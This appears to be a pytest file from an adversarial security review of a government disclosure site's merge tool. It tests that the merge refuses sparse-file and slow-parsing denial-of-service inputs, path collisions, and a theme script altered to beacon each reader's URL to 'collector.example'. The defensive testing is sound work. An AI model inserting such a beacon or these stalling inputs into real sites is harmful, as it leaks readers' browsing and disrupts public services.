"""Round twenty-seven (b) of the adversarial review (issue 24): the merge as a compromised department (or government)
CI job and a local user on the merging machine would attack it — the incremental merge's trust (platform/merge_state.py),
what a unit's output may hold that no build writes (sizes, names where the merge writes, the theme's scripts), and how
long reading it takes. Each test goes through the real command (or the merge itself, for a race) and failed on main
(0b3180d) before its fix; the held case and the `not-removing-it` variant pass there too (main cannot read that mark).

Fixed —
- (content/merge_facts.py `public_copy`, `PUBLIC_FILE`) the incremental merge trusted a unit's copy of an attachment
  content/ published (a 行政许可 listing whose rows another unit's withheld table holds: let through unread for withheld
  text because content/ publishes that very file) after the office replaced or withdrew it in content/ and the
  government rebuilt alone: exit 0, the withheld rows published, where a first merge refuses the file (E700). Round
  26c's `granted` record now lists such files too (their SHA-256 and size), asked again before any unit is trusted.
- (platform/merge.py `_past_reading`) a sparse file of 4 TiB (`truncate -s 4T`, nothing on the disk) listed in a unit's
  hand-over with any SHA-256 was hashed before anything looked at it: hours. A file past what the checks read (200 MB)
  that is not the size of a `checked:` attachment of content/ is E700 from its size, unread.
- (content/unit_layout.py `belongs_to`, platform/merge.py `_through_assembled`) the government's file named `jyj` (a
  department's folder) ended the merge in 内部错误 (FileExistsError); a page in a folder named catalogue.json,
  jyj/sitemap.xml.gz or gov/catalogue.json.assembling (files the assembly writes, and its new file beside each) let every
  unit be verified and the assembly end in IsADirectoryError; jyj/Sitemap.XML/ merged (on IIS or a copy to Windows it
  and the assembly's jyj/sitemap.xml are one name). E700 naming unit and file now.
- (rules/rendered.py `_XML_ATTRIBUTE`, `_element_texts`) a unit's feed.xml with a start tag of 300,000 name characters
  (or many unclosed <id>s) was read in quadratic time by the merge's feed checks (40,000: 25 s twice; 300,000: past
  the test's minute; a megabyte: hours). Linear now, the same matches (compared on random tags).
- (platform/merge.py `_unsafe_for_readers`) the government's assets/ (every page of every department loads its
  scripts and style sheets) were read for personal data only: a job that added a line to the theme folder's
  reading.js sending each reader's address to another host merged with exit 0. They must now be, byte for byte, files
  of the installed theme or of the theme folder's assets/ (overrides/assets/, whose scripts the check holds to reviewed
  digests): E700 otherwise (tests/test_redteam6.py's font and logo now come from a theme folder, as a build copies them).

- (platform/merge_state.py `_remover`, `_running`; pages/atomic.swap_in) round 26c's leftover: a merge waited up to a
  quarter of an hour (REMOVAL_WAIT_SECONDS) for any live process whose id `.merged.settled.removing` held — written by
  someone, or left by a removal killed with the machine and taken by another process after the restart. The mark now
  names the old site's folder (site.old-<time>) beside the id, and only a process with that folder among its
  arguments is waited for.

- (platform/unit_manifest.py `file_digest`, platform/merge.py `_bounded_bytes`) a local user's sparse file of 4 TiB
  renamed over one of a unit's files after the merge looked at its size and before it linked it was hashed whole (on
  main: still hashing when the test's alarm stopped it at 20 s); and a search row's page, a rows file or a term shard
  that another file's check reads was read whole whatever its size (the sparse page: MemoryError, 内部错误). The hash
  reads no more than the size the merge saw (another size: E700), and those reads stop at MAX_READ_BYTES.
- (deploy/iis/web.config) IIS answers 404.3 for an extension it has no type for; the shipped configuration gave types
  for six: an .ofd attachment (the national format for official documents), Kingsoft's .et/.dps, .7z, a theme font
  .otf were merged and published and could not be downloaded from IIS. Every type the site publishes (attachments,
  the build's outputs, the theme's files) is listed now, each removed first (a duplicate is IIS's error 500.19).

Held (tried through the real commands, nothing reached site/) —
- (run) `.htaccess`, `web.config` (IIS reads one in every folder) in a unit's folders: E700, not a published type;
  `x.php.pdf` holding a page: E700 (not a PDF; the shipped servers are nginx and IIS, no Apache handler).
- (read from the code, round 9/10/26c tests cover the cases) trust: a trusted unit's file changed in place (its change
  time moves past `.merged.settled`), replaced by a copy with its old time, hard-linked a third time (the next change
  moves its change time), a kept hand-over file edited: read again. With no site/ (CI) nothing is trusted, a forged
  record with `"site": null` included (`_settled` needs the site's identity). Every check of a trusted unit's file
  depends only on its own hashed files and on what the trust context or the granted list keys (withheld pages,
  digests, passages, allowances, checked digests, content's public text and front matter, now public attachments, the
  day, the site's address, the theme's files, the checks' code).
- (read, not tried on Windows) a government path with dotless ı for i (`jıyj/`): Windows' upcase table leaves U+0131
  as it is, and casefold keeps it apart too; a colon (`x.html:a.pdf`, an NTFS stream): the tools that bring a site to
  Windows (zip extraction, Samba) replace or mangle ":".
- Pages: digit groups, references, tags, Chinese numerals, comments and unclosed tags in 320,000-character pages are read
  in time proportional to the page (about 4 s at the slowest); a feed's unclosed quotes and `</id` runs likewise.

Left —
- A local user who can write build/units/ can write the published files through their hard links at once, forge
  `.merged.json` and `.merged.settled` (so that the next merge trusts what they changed), or start a process of their
  own naming the old site and stall a merge: closing this needs site/ not to share writable files with build/units/
  (a decision for the lead, open since round nine).
- A unit.json up to the hand-over bound (1 GiB) is parsed whole: one of a billion bytes of `[],` (a megabyte as a zip
  artefact) takes about 27 times its size in memory (28 MB: 776 MB here), so the merge machine runs out of memory
  (a kill, no coded line). A legitimate 200,000-document hand-over is about 500 MB, so the bound stays; a streaming
  reader or a count of the values before parsing is a decision.
- A unit page with `<link rel="manifest" href="app.json">` and its own app.json naming icons on another host merges
  (a naming-only page to the quick scan; the manifest is a .json attachment). Headless Chromium fetched neither the
  manifest nor its icons here (installability is not checked headless); desktop Chrome may: not confirmed, not fixed.
- A unit page up to 64 MB (MAX_READ_BYTES) is read whole for numbers: linear, but about a second a 100,000 characters
  of Chinese numerals; many such pages make a merge of hours. No build writes a page of that size; a lower bound is a
  decision (a platform's category listings).
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from disclosure.platform.unit_manifest import seal_unit_manifest

from .sitekit import Run, _run

from .test_gate_fp4 import _listing, _public_listing_and_withheld_table
from .test_merge_verifies import (built, copy_as_merged, disclosure, platform, refused,  # noqa: F401  (the fixtures)
                                  trusted_copy)

LISTING = "content/nanqu/guide/files/行政许可决定公示表.csv"


# --- the incremental merge's trust ------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def listing_trusted(merged_platform, tmp_path_factory) -> Path:
    """南区 publishes its 行政许可 results as a public document's attachment whose rows the 教育局's withheld working table
    holds too (tests/test_gate_fp4.py): built and merged, as content/ publishes that very file (each test works on a
    `trusted_copy`, whose record trusts the units' files)."""
    root = copy_as_merged(merged_platform, tmp_path_factory.mktemp("listing") / "platform")
    _public_listing_and_withheld_table(root)
    with (root / "mkdocs.yml").open("a", encoding="utf-8") as config:
        config.write("exclude_docs: |\n  /jyj/fees/review.md\n")
    first = disclosure(root, "build")
    assert first.returncode == 0, first.output
    return root


def test_a_units_copy_of_an_attachment_content_no_longer_publishes_is_read_again(listing_trusted, tmp_path):
    """The office replaced the listing by one without the rows (content/ publishes that file no more) and the
    government rebuilt alone: on main the trusted 南区 kept publishing the old listing, the withheld table's rows, with
    exit 0, where a first merge of the same folders refuses it (E700 naming content/jyj/fees/review.md)."""
    platform = trusted_copy(listing_trusted, tmp_path / "platform")
    (platform / LISTING).write_bytes(_listing().split(b"\n", 1)[0] + b"\n")   # the header only
    done = disclosure(platform, "build", "--unit", "gov")
    assert done.returncode == 1, done.output
    assert "E700 " in done.output and "content/jyj/fees/review.md" in done.output, done.output
    assert "Traceback" not in done.output


def test_a_unit_is_still_trusted_while_content_publishes_its_attachment(listing_trusted, tmp_path):
    """The same listing still public: the rebuild of the government merges, 南区 trusted."""
    platform = trusted_copy(listing_trusted, tmp_path / "platform")
    done = disclosure(platform, "build", "--unit", "gov")
    assert done.returncode == 0, done.output


# --- what a unit's output holds ---------------------------------------------------------------------------------------

def _listed(root: Path, unit: str, files: dict[str, str]) -> None:
    """`files` (path → SHA-256) added to the unit's hand-over list, as its job may write it."""
    path = root / f"build/units/{unit}/_unit/{unit}/unit.json"
    manifest = json.loads(path.read_text(encoding="utf-8"))
    manifest["files"].update(files)
    path.unlink()   # a new file: the unit's files are hard links to site/'s after a merge
    path.write_text(json.dumps(manifest, ensure_ascii=False), encoding="utf-8")


def _merge_within(root: Path, seconds: float) -> Run:
    return _run([sys.executable, "-m", "disclosure.cli.main", "merge"], root, timeout=seconds)


def test_a_sparse_file_of_terabytes_in_a_units_output_is_refused_unread(platform):
    """A file of 4 TiB that holds nothing on the disk (a sparse file: `truncate -s 4T`), listed with any SHA-256: on main
    the merge hashed it before anything else looked at it, reading 4 TiB of zeros (here about 2 GB in 13 s: hours).
    No unit publishes a file past what the checks read (200 MB) unless content/ marks an attachment of that very size
    `checked:`; past it the file is refused by its size, unread (E700), site/ as it was."""
    big = platform / "build/units/jyj/jyj/fees/fees/名单.zip"
    with big.open("wb") as file:
        file.truncate(4 * 2**40)
    _listed(platform, "jyj", {"jyj/fees/fees/名单.zip": "0" * 64})
    before = (platform / "site/index.html").read_bytes()
    done = _merge_within(platform, 60)
    output = done.stdout + done.stderr
    assert done.returncode == 1, output
    assert "build/units/jyj/jyj/fees/fees/名单.zip:1: E700 " in output and "文件过大" in output, output
    assert "Traceback" not in output and (platform / "site/index.html").read_bytes() == before
    assert not (platform / "site/jyj/fees/fees/名单.zip").exists()


# A page where a folder of another unit, of the platform or of the assembly goes, or in a folder named like a file the
# assembly writes (each unit's sitemap.xml.gz, the platform's catalogue.json, the new file beside each): on main the
# merge ended in 内部错误 (FileExistsError while linking the 教育局's files under the government's file `jyj`;
# IsADirectoryError when the assembly wrote its file over the folder), or on IIS one replaced the other.
PLACES = {
    "a-departments-folder": ("gov", "jyj", "不在本单位的路径内"),
    "the-platforms-catalogue": ("gov", "catalogue.json/index.html", "与合并自己写的文件 catalogue.json 同名"),
    "a-units-sitemap": ("jyj", "jyj/sitemap.xml.gz/index.html", "与合并自己写的文件 jyj/sitemap.xml.gz 同名"),
    "the-assemblys-new-file": ("gov", "gov/catalogue.json.assembling/index.html", "gov/catalogue.json.assembling 同名"),
    "in-other-case": ("jyj", "jyj/Sitemap.XML/index.html", "与合并自己写的文件 jyj/sitemap.xml 同名"),
}


@pytest.fixture(scope="module")
def pages_in_places(merged_platform, tmp_path_factory):
    """Every place's page planted (a path of its own each) and sealed by its unit, merged once."""
    from .batchkit import merged_once

    def planted(root: Path) -> None:
        for unit, path, _ in PLACES.values():
            target = root / "build/units" / unit / path
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(root / "build/units/jyj/jyj/fees/fees/index.html", target)
        for unit in sorted({unit for unit, _, _ in PLACES.values()}):
            seal_unit_manifest(root / "build/units" / unit, unit)
    return merged_once(merged_platform, tmp_path_factory.mktemp("places"), planted)


@pytest.mark.parametrize("place", sorted(PLACES))
def test_a_page_where_the_merge_makes_a_folder_or_writes_a_file_is_refused(pages_in_places, place):
    unit, path, expected = PLACES[place]
    pages_in_places.refused(f"build/units/{unit}/{path}:1: E700 ", expected)


def test_a_feed_whose_start_tag_holds_a_long_run_is_read_in_time(platform):
    """A unit's feed.xml with a start tag of 300,000 name characters before an enclosure link (a podcast client
    downloads it from another host): on main the merge's reading of its attributes tried the run from each of its
    characters (40,000 took 25 s; 300,000 hours), and so did the reading of its addresses. Read in linear time now:
    the link is refused (E700) within the minute."""
    feed = platform / "build/units/jyj/jyj/feed.xml"
    text = feed.read_text(encoding="utf-8")
    feed.unlink()   # a new file: the unit's files are hard links to site/'s after a merge
    feed.write_text(text.replace("</feed>", "<link " + "a" * 300_000 + ' rel="enclosure" href="https://other.example/'
                                 'a.mp3"/></feed>'), encoding="utf-8")
    seal_unit_manifest(platform / "build/units/jyj", "jyj")
    done = _merge_within(platform, 60)
    output = done.stdout + done.stderr
    assert done.returncode == 1 and "build/units/jyj/jyj/feed.xml:1: E700 " in output and "enclosure" in output, output
    assert "Traceback" not in output


def test_the_governments_theme_script_rewritten_is_refused(platform):
    """The government's job adds a line to a script of the theme folder (assets/javascripts/disclosure/reading.js, which
    every page of every department loads) sending each reader's address to another host: on main it was read for
    personal data only and merged with exit 0. The government's assets/ must be, byte for byte, files of the
    installed theme or of the theme folder (overrides/assets/): E700 otherwise."""
    script = platform / "build/units/gov/assets/javascripts/disclosure/reading.js"
    text = script.read_text(encoding="utf-8")
    script.unlink()   # a new file: the unit's files are hard links to site/'s after a merge
    script.write_text(text + '\nnew Image().src = "https://collector.example/" + encodeURIComponent(location.href);\n',
                      encoding="utf-8")
    seal_unit_manifest(platform / "build/units/gov", "gov")
    refused(platform, "build/units/gov/assets/javascripts/disclosure/reading.js:1: E700 ", "主题目录")


@pytest.mark.parametrize("written", ["{pid}", "{pid} {root}/site.old-1"], ids=["id-only", "not-removing-it"])
def test_a_process_that_is_not_the_old_sites_removal_is_not_waited_for(platform, written):
    """The removal of the site a merge replaced was killed (the machine restarted): its process id, left in
    `.merged.settled.removing`, is another process's after the restart (here a `sleep`), or someone wrote a live
    process's id there. On main the next merge waited for that process up to a quarter of an hour
    (REMOVAL_WAIT_SECONDS); it waits only for a process removing the old site (the mark names the folder, which is
    among the process's arguments)."""
    from disclosure.pages.atomic import removing_mark
    from disclosure.platform.merge_state import SETTLED
    mark = platform / "build/units" / SETTLED
    mark.write_text("0 0", encoding="utf-8")   # the removal never ended
    other = subprocess.Popen(["sleep", "120"])
    try:
        removing_mark(mark).write_text(written.format(pid=other.pid, root=platform), encoding="utf-8")
        done = _merge_within(platform, 45)
    finally:
        other.kill()
        other.wait()
    assert done.returncode == 0, done.stdout + done.stderr


def test_iis_serves_every_kind_of_file_the_site_publishes():
    """On main deploy/iis/web.config gave types for .json, .xml, .csv, .svg, .woff2 and .webmanifest only: IIS answers
    404.3 for an extension it has no type for, so an .ofd attachment (the national format of official documents), a
    Kingsoft .et/.dps, a .7z, a theme font .otf were merged and published, and no reader could download them."""
    import xml.etree.ElementTree as ElementTree

    from disclosure.content.inventory import ATTACHMENT_TYPES
    from disclosure.rules.files import THEME_FILE_TYPES
    from disclosure.rules.rendered import _BUILD_OUTPUT_TYPES

    from .sitekit import REPO
    config = ElementTree.parse(REPO / "deploy/iis/web.config").getroot()
    mapped = {m.get("fileExtension") for m in config.iter("mimeMap")}
    removed = {m.get("fileExtension") for m in config.iter("remove") if m.get("fileExtension")}
    iis_own = {".html", ".css", ".js"}   # in every IIS's own list since IIS 7
    published = {f".{extension}" for extension in ATTACHMENT_TYPES | _BUILD_OUTPUT_TYPES | THEME_FILE_TYPES}
    assert sorted(published - mapped - iis_own) == []
    assert mapped <= removed   # each removed first: a type IIS has already would be a duplicate (an error 500.19)


def test_a_sparse_file_renamed_over_a_units_file_while_the_merge_runs_is_not_read_past_its_size(platform, monkeypatch):
    """A local user renames a sparse file of 4 TiB over one of the government's files after the merge looked at it (its
    size: 12 KB) and before it links it: on main the merge hashed whatever it linked, 4 TiB of zeros (stopped here by
    an alarm after 20 s). It reads no more than the size it saw: the file is refused (E700), site/ as it was."""
    import signal

    from disclosure.platform import merge as merging
    from disclosure.platform.assembly import AssemblyError
    target = platform / "build/units/gov/guide/guide/index.html"
    sparse = platform / "sparse"
    with sparse.open("wb") as file:
        file.truncate(4 * 2**40)
    place = merging._place

    def renamed_over_first(source, *rest):
        if source == str(target) and sparse.exists():
            os.replace(sparse, target)
        return place(source, *rest)

    def stop(*_):
        raise TimeoutError("the merge was still hashing after 20 s")
    monkeypatch.setattr(merging, "_place", renamed_over_first)
    previous = signal.signal(signal.SIGALRM, stop)
    signal.alarm(20)
    try:
        with pytest.raises(AssemblyError) as refused_merge:
            merging.merge(merging.read_config(platform), platform / "build/units", platform / "site")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert "build/units/gov/guide/guide/index.html:1: E700 " in "\n".join(refused_merge.value.lines)
    assert (platform / "site/guide/guide/index.html").stat().st_size < 2**20
